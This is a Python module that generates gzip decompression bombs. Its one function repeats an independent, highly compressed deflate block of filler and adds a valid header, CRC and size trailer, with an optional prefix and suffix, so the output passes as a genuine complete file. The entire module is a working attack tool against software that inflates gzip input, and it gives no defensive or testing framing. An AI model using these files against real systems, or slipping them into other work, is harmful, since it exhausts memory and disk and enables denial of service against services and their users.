"""Gzip bombs made in well under a second: a deflate block of zeros, repeated.

A block compressed with Z_FULL_FLUSH refers to nothing before it, so the same bytes
repeated `n` times are a valid stream of `n` times the block's text. The gzip trailer's
CRC and size are right, so a reader sees a genuine, complete file.
"""

import struct
import zlib

MB = 1 << 20


def gzip_bomb(
    prefix: bytes, filler: bytes, megabytes: int, suffix: bytes = b"", crc: bool = True
) -> bytes:
    """`prefix`, then `megabytes` MB of `filler` repeated, then `suffix`, gzipped.

    Without `crc` the trailer's checksum is left 0 (it takes a second per GB to work out;
    a reader that stops early never reaches it)."""
    chunk = (filler * (MB // len(filler) + 1))[:MB]
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = deflate.compress(prefix) + deflate.flush(zlib.Z_FULL_FLUSH)
    block = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    tail = deflate.compress(suffix) + deflate.flush(zlib.Z_FINISH)
    checksum = 0
    if crc:
        checksum = zlib.crc32(prefix)
        for _ in range(megabytes):
            checksum = zlib.crc32(chunk, checksum)
        checksum = zlib.crc32(suffix, checksum)
    size = len(prefix) + megabytes * MB + len(suffix)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return (
        header + head + block * megabytes + tail + struct.pack("<II", checksum, size & 0xFFFFFFFF)
    )
